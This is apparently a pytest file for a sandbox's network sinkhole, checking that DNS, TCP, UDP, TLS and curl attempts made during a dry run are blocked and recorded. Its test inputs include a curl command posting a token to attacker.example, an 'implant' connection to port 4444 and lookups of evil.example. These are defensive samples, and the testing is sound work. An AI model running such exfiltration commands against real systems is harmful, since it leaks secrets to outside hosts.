"""Network attempts in the dry run, end to end: a real daemon, the sandbox's recording sinkhole.

Nothing leaves the machine and the host's own services stay unreachable, but every DNS query,
TCP connection and UDP datagram is recorded with what it carried.
"""

from __future__ import annotations

import shlex
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from airlock.api import convert
from airlock.client import Client
from airlock.types import NetProtocol, Verdict
from tests.helpers import NEUTRAL_POLICY
from tests.helpers.host import loopback_listener

DAEMON_ARGS = NEUTRAL_POLICY
PY = sys.executable


def py(code: str) -> str:
    """A command line running ``code`` with this interpreter (present on the host, so in the
    sandbox too: the sandbox sees the host's file systems)."""
    return f"{PY} -c {shlex.quote(code)}"


def test_dns_tcp_and_udp_attempts_are_recorded_with_their_payload(
    client: Client, workspace: Path
) -> None:
    code = (
        "import socket\n"
        "a = socket.gethostbyname('pypi.org')\n"
        "s = socket.create_connection((a, 443), timeout=5)\n"
        "s.sendall(b'GET /simple/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n')\n"
        "print('got', s.recv(10))\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "u.sendto(b'datagram-payload', ('203.0.113.9', 5353))\n"
        "print(a)\n"
    )
    v = client.validate(py(code), cwd=str(workspace))
    assert v.exit_code == 0, v.stderr
    fake = v.stdout.decode().split()[-1]
    assert fake.startswith("198.18.") or fake.startswith("198.19.")
    assert b"got b''" in v.stdout  # the sinkhole never answers
    by_proto = {p: [a for a in v.network_attempts if a.protocol is p] for p in NetProtocol}
    (dns,) = [a for a in by_proto[NetProtocol.DNS] if a.dns_type == "A"]
    assert dns.dns_name == "pypi.org" and dns.port == 53
    (tcp,) = by_proto[NetProtocol.TCP]
    assert (tcp.address, tcp.port, tcp.dns_name) == (fake, 443, "pypi.org")
    assert tcp.payload_prefix.startswith(b"GET /simple/ HTTP/1.1\r\n")
    assert (tcp.http_method, tcp.http_host, tcp.http_path) == ("GET", "pypi.org", "/simple/")
    (udp,) = by_proto[NetProtocol.UDP]
    assert (udp.address, udp.port, udp.payload_prefix) == ("203.0.113.9", 5353, b"datagram-payload")
    assert "Tried to reach pypi.org:443, 203.0.113.9:5353 (blocked during the dry run)." in (
        v.summary
    )
    # Times count from the command's start and follow the order of the attempts.
    assert 0 <= dns.time_s <= tcp.time_s <= udp.time_s < 30
    # The attempts survive the trip through protobuf.
    back = convert.validation_from_proto(convert.validation_to_proto(v))
    assert back.network_attempts == v.network_attempts


def test_connect_to_a_raw_address_records_the_first_bytes(client: Client, workspace: Path) -> None:
    code = (
        "import socket\n"
        "s = socket.create_connection(('203.0.113.7', 4444), timeout=5)\n"
        "s.sendall(b'hello from the implant' * 300)\n"
        "s.close()\n"
    )
    v = client.validate(py(code), cwd=str(workspace))
    assert v.exit_code == 0, v.stderr
    (tcp,) = v.network_attempts
    assert (tcp.protocol, tcp.address, tcp.port) == (NetProtocol.TCP, "203.0.113.7", 4444)
    assert len(tcp.payload_prefix) == 4096  # the first 4 KiB
    assert tcp.payload_prefix.startswith(b"hello from the implant")
    assert tcp.bytes_sent >= 4096
    assert "Tried to reach 203.0.113.7:4444" in v.summary


def test_tls_client_hello_gives_the_server_name(client: Client, workspace: Path) -> None:
    code = (
        "import socket, ssl\n"
        "ctx = ssl.create_default_context()\n"
        "raw = socket.create_connection(('example.com', 443), timeout=5)\n"
        "try:\n"
        "    ctx.wrap_socket(raw, server_hostname='example.com')\n"
        "except (OSError, ssl.SSLError) as e:\n"
        "    print('handshake failed', type(e).__name__)\n"
    )
    v = client.validate(py(code), cwd=str(workspace))
    assert b"handshake failed" in v.stdout, v.stderr
    (tcp,) = [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]
    assert tcp.sni == "example.com" and tcp.dns_name == "example.com" and tcp.port == 443
    assert tcp.host == "example.com"


def test_dns_over_tcp_and_to_a_loopback_resolver(client: Client, workspace: Path) -> None:
    # A query over UDP to 127.0.0.53 (systemd-resolved's stub address) is answered by the
    # sinkhole, not by the host's resolver (the host's loopback is another namespace).
    query = (
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x01\x00\x01"
    )
    code = (
        "import socket\n"
        f"q = {query!r}\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)\n"
        "u.sendto(q, ('127.0.0.53', 53)); r = u.recv(512)\n"
        "print(socket.inet_ntoa(r[-4:]))\n"
        "t = socket.create_connection(('9.9.9.9', 53), timeout=5)\n"
        "t.sendall(len(q).to_bytes(2, 'big') + q); print(len(t.recv(512)))\n"
    )
    v = client.validate(py(code), cwd=str(workspace))
    assert v.exit_code == 0, v.stderr
    dns = [a for a in v.network_attempts if a.protocol is NetProtocol.DNS]
    assert [(a.address, a.dns_name) for a in dns] == [
        ("127.0.0.53", "evil.example"),
        ("9.9.9.9", "evil.example"),
    ]
    assert v.stdout.decode().split()[0].startswith("198.1")
    assert "Looked up evil.example (answered with a placeholder address)." in v.summary


@pytest.fixture
def host_listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on the host's 127.0.0.1 that records whatever reaches it."""
    with loopback_listener() as listener:
        yield listener


def test_a_host_listener_on_loopback_receives_nothing(
    client: Client, workspace: Path, host_listener: tuple[int, list[bytes]]
) -> None:
    port, got = host_listener
    code = (
        "import socket\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "    s.sendall(b'LEAK'); print('connected')\n"
        "except OSError as e:\n"
        "    print('refused', e.errno)\n"
        "for host in ('203.0.113.1', '10.0.0.1', '192.168.1.1'):\n"
        "    try:\n"
        f"        socket.create_connection((host, {port}), timeout=2).sendall(b'LEAK')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    v = client.validate(py(code), cwd=str(workspace))
    assert v.exit_code == 0, v.stderr
    # The sandbox's own loopback is empty, so connecting there is refused (and recorded as an
    # attempt to reach a service on this machine); every other address reaches only the
    # sinkhole.
    assert b"refused" in v.stdout
    assert [(a.address, a.refusal) for a in v.network_attempts] == [
        ("127.0.0.1", "host-service"),
        ("203.0.113.1", "no-grant"),
        ("10.0.0.1", "no-grant"),
        ("192.168.1.1", "no-grant"),
    ]
    # Probe the listener from the host: it works, and it has seen nothing from the sandbox.
    with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
        s.sendall(b"probe")
    for _ in range(50):
        if got:
            break
        threading.Event().wait(0.05)
    assert got == [b"probe"]


def test_a_server_on_the_sandboxes_own_loopback_still_works(
    client: Client, workspace: Path
) -> None:
    code = (
        "import socket, threading\n"
        "srv = socket.socket(); srv.bind(('127.0.0.1', 8080)); srv.listen(1)\n"
        "def serve():\n"
        "    c, _ = srv.accept(); c.sendall(c.recv(10).upper()); c.close()\n"
        "threading.Thread(target=serve).start()\n"
        "s = socket.create_connection(('127.0.0.1', 8080)); s.sendall(b'ping')\n"
        "print(s.recv(10).decode())\n"
    )
    v = client.validate(py(code), cwd=str(workspace))
    assert v.stdout == b"PING\n", v.stderr
    assert v.network_attempts == ()
    assert "Tried to reach" not in v.summary


def test_curl_fails_fast_and_its_request_is_recorded(client: Client, workspace: Path) -> None:
    v = client.validate(
        "curl -sS -m 20 -d 'token=s3cr3t' http://attacker.example:8000/upload; echo rc=$?",
        cwd=str(workspace),
    )
    assert b"rc=52" in v.stdout  # "Empty reply from server": the sinkhole closed at once
    dns = [a for a in v.network_attempts if a.protocol is NetProtocol.DNS]
    assert {a.dns_name for a in dns} == {"attacker.example"}
    (tcp,) = [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]
    assert (tcp.http_method, tcp.http_host, tcp.http_path) == (
        "POST",
        "attacker.example:8000",
        "/upload",
    )
    assert tcp.payload_prefix.endswith(b"token=s3cr3t")
    assert "Tried to reach attacker.example:8000" in v.summary
    assert v.verdict is Verdict.ALLOW  # the neutral policy has no effect rules


def test_the_default_template_has_network_capture(client: Client, workspace: Path) -> None:
    v = client.validate("getent hosts example.org || true", cwd=str(workspace))
    names = {a.dns_name for a in v.network_attempts if a.protocol is NetProtocol.DNS}
    assert "example.org" in names
